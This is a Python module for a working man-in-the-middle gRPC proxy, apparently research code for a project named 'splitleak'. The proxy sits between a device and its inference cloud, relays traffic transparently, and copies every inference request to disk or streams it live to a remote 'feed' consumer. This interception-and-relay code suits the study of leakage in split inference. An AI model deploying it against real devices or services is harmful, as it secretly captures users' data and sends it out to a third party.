"""The man in the middle (`splitleak attacker proxy`): relays device <-> cloud byte for byte, capturing each request.

It listens where the device expects the cloud, forwards every RPC to the real cloud, and keeps a copy of every
inference request in a capture (splitleak.core.capture), or sends it as it happens to a live consumer
(splitleak.attacker.feed), or both.

Each side gets what the other sent: messages are never parsed on the way through (the handlers take and return
bytes); replies, status codes, details and metadata come back as the cloud sent them; the device's metadata (less
gRPC's own headers, such as user-agent), deadline and cancellation are passed on to the cloud.
The copies of ModelInfer and ModelStreamInfer requests go to a bounded queue (CaptureSink) that another thread
drains, so a slow disk drops copies (counted) instead of delaying the device.
Methods the proxy does not know are forwarded as bidirectional streams, which carry any cardinality on the wire.
The proxy answers gRPC health checks itself, like the cloud.
"""

from __future__ import annotations

import argparse
import functools
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent import futures
from pathlib import Path

import grpc
from grpc_health.v1 import health, health_pb2, health_pb2_grpc

from splitleak.attacker.feed import FeedSender
from splitleak.core import process, transport
from splitleak.core.capture import CaptureSink, CaptureWriter
from splitleak.protos import inference_pb2 as pb

_SERVICE = pb.DESCRIPTOR.services_by_name["GRPCInferenceService"]
# (client streams, server streams) of every method the proxy knows; anything else is forwarded as a stream both ways.
_CARDINALITY = {f"/{_SERVICE.full_name}/{m.name}": (m.client_streaming, m.server_streaming) for m in _SERVICE.methods}
CAPTURED_METHODS = frozenset(f"/{_SERVICE.full_name}/{name}" for name in ("ModelInfer", "ModelStreamInfer"))
# Set by each gRPC stack itself; passing the device's on would be refused or duplicated.
_HOP_BY_HOP = ("user-agent", "grpc-", ":")
# A call without a deadline reports one some 292 years away.
_NO_DEADLINE_S = 1e9


class Proxy:
    """A transparent gRPC proxy to `cloud` that hands a copy of every inference request to `sink`."""

    def __init__(
        self, cloud: str, sink: CaptureSink, *, host: str = "127.0.0.1", port: int = 0, max_workers: int = 16
    ) -> None:
        self.cloud = cloud
        self.sink = sink
        self.host = host
        self.port = port  # the one it listens on, once started
        self._channel = transport.channel(cloud)
        self._forwarder = _Forwarder(self._channel, sink)
        self._server = grpc.server(futures.ThreadPoolExecutor(max_workers=max_workers), options=transport.OPTIONS)
        self._health = health.HealthServicer()
        health_pb2_grpc.add_HealthServicer_to_server(self._health, self._server)
        # Registered services (health) are looked up first; every other method falls through to the forwarder.
        self._server.add_generic_rpc_handlers((self._forwarder,))

    def start(self) -> int:
        """Start listening; returns the port."""
        bound = self._server.add_insecure_port(f"{self.host}:{self.port}")
        if bound == 0:
            raise OSError(f"cannot listen on {self.host}:{self.port}")
        self.port = bound
        self._server.start()
        for name in ("", transport.SERVICE_NAME):
            self._health.set(name, health_pb2.HealthCheckResponse.SERVING)
        return bound

    def stop(self, grace_s: float = 10.0) -> None:
        """Stop taking calls and let those in flight finish (up to `grace_s`). The sink is its owner's to close."""
        self._health.enter_graceful_shutdown()
        self._server.stop(grace_s).wait()
        self._channel.close()

    @property
    def stats(self) -> dict[str, int]:
        return {"forwarded": self._forwarder.forwarded, **self.sink.stats}


class _Forwarder(grpc.GenericRpcHandler):
    def __init__(self, channel: grpc.Channel, sink: CaptureSink) -> None:
        self.channel = channel
        self.sink = sink
        self.forwarded = 0  # request messages passed on to the cloud
        self._lock = threading.Lock()
        self._upstream: dict[str, grpc.UnaryUnaryMultiCallable | grpc.StreamStreamMultiCallable] = {}

    def service(self, handler_call_details: grpc.HandlerCallDetails) -> grpc.RpcMethodHandler:
        method = handler_call_details.method
        if _CARDINALITY.get(method) == (False, False):
            return grpc.unary_unary_rpc_method_handler(functools.partial(self._unary, method))
        return grpc.stream_stream_rpc_method_handler(functools.partial(self._stream, method))

    def _unary(self, method: str, request: bytes, context: grpc.ServicerContext) -> bytes:
        self._passed(method, request)
        call = self._upstream_call(method, unary=True).future(
            request, timeout=_timeout(context), metadata=_metadata(context)
        )
        context.add_callback(call.cancel)  # the device hung up: so does the proxy
        try:
            response = call.result()
        except grpc.RpcError as e:
            _relay_error(context, e)
        except grpc.FutureCancelledError:
            context.abort(grpc.StatusCode.CANCELLED, "cancelled by the client")
        context.send_initial_metadata(call.initial_metadata())
        context.set_trailing_metadata(call.trailing_metadata())
        return response

    def _stream(self, method: str, request_iterator: Iterator[bytes], context: grpc.ServicerContext) -> Iterator[bytes]:
        def requests() -> Iterator[bytes]:
            for request in request_iterator:
                self._passed(method, request)
                yield request

        call = self._upstream_call(method, unary=False)(
            requests(), timeout=_timeout(context), metadata=_metadata(context)
        )
        context.add_callback(call.cancel)
        try:
            context.send_initial_metadata(call.initial_metadata())
            yield from call
        except grpc.RpcError as e:
            _relay_error(context, e)
        context.set_trailing_metadata(call.trailing_metadata())

    def _passed(self, method: str, request: bytes) -> None:
        if method in CAPTURED_METHODS:
            self.sink.put(request, time.time_ns())
        with self._lock:
            self.forwarded += 1

    def _upstream_call(self, method: str, *, unary: bool):
        # Without serializers a multi-callable takes and returns bytes: nothing is parsed on the way through.
        if method not in self._upstream:
            make = self.channel.unary_unary if unary else self.channel.stream_stream
            self._upstream[method] = make(method)
        return self._upstream[method]


def _timeout(context: grpc.ServicerContext) -> float | None:
    remaining = context.time_remaining()
    return None if remaining is None or remaining > _NO_DEADLINE_S else remaining


def _metadata(context: grpc.ServicerContext) -> list[tuple[str, str | bytes]]:
    return [(key, value) for key, value in context.invocation_metadata() if not key.startswith(_HOP_BY_HOP)]


def _relay_error(context: grpc.ServicerContext, error: grpc.RpcError) -> None:
    context.set_trailing_metadata(error.trailing_metadata() or ())
    context.abort(error.code(), error.details() or "")


def start_process(
    cloud: str,
    capture: Path | None,
    *,
    dataset: str | None = None,
    extra: list[str] | None = None,
    timeout_s: float = 60.0,
    own_session: bool = False,
) -> tuple[subprocess.Popen, int]:
    """Start `splitleak attacker proxy --listen-port 0` and wait for the port it prints (stop it with process.stop).

    Without a capture folder, `extra` must say where else the captures go (`--feed HOST:PORT`). `own_session`: as
    for splitleak.core.process.start_cloud."""
    cmd = ["attacker", "proxy", "--listen-port", "0", "--cloud", cloud]
    cmd += [*(["--capture", str(capture)] if capture else []), *(["--dataset", dataset] if dataset else [])]
    return process.start_listening([*cmd, *(extra or [])], "proxy", timeout_s, own_session=own_session)


def get_args_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--listen-port", type=int, default=8001, help="where the device connects; 0 picks a free one")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--cloud", required=True, metavar="HOST:PORT", help="the real cloud")
    parser.add_argument("--capture", type=Path, help="capture folder to write (must not hold one)")
    parser.add_argument(
        "--feed", metavar="HOST:PORT", help="also send every captured request, as it happens, to a consumer there"
    )
    parser.add_argument("--dataset", help="the data set the device's frames come from, if known (for scoring)")
    parser.add_argument("--queue", type=int, default=1024, help="requests waiting to be written before copies drop")
    parser.add_argument("--workers", type=int, default=16, help="concurrent RPCs (each open stream holds one)")
    return parser


def main(args: argparse.Namespace) -> int:
    if args.capture is None and args.feed is None:
        print("proxy: say where the captures go: --capture DIR, --feed HOST:PORT, or both", file=sys.stderr)
        return 2
    try:
        feed = args.feed and FeedSender(args.feed)
    except OSError as e:
        print(f"proxy: cannot feed {args.feed}: {e}", file=sys.stderr)
        return 1
    try:
        writer = args.capture and CaptureWriter(args.capture, tap="proxy", dataset=args.dataset, cloud=args.cloud)
    except FileExistsError as e:
        print(f"proxy: {e}", file=sys.stderr)
        return 1
    sink = CaptureSink(writer, maxsize=args.queue, on_capture=[feed] if feed else None)
    proxy = Proxy(args.cloud, sink, host=args.host, port=args.listen_port, max_workers=args.workers)
    stop = threading.Event()
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stop.set())
    port = proxy.start()
    taps = [f"capturing to {args.capture}"] * bool(args.capture) + [f"feeding {args.feed}"] * bool(args.feed)
    print(f"proxy listening on {args.host}:{port} forwarding to {args.cloud}, {' and '.join(taps)}", flush=True)
    stop.wait()
    proxy.stop()
    sink.close()
    stats = proxy.stats | (feed.stats if feed else {})
    if feed:
        feed.close()
    print("proxy stopped: " + ", ".join(f"{k} {v}" for k, v in stats.items()), file=sys.stderr, flush=True)
    return 0
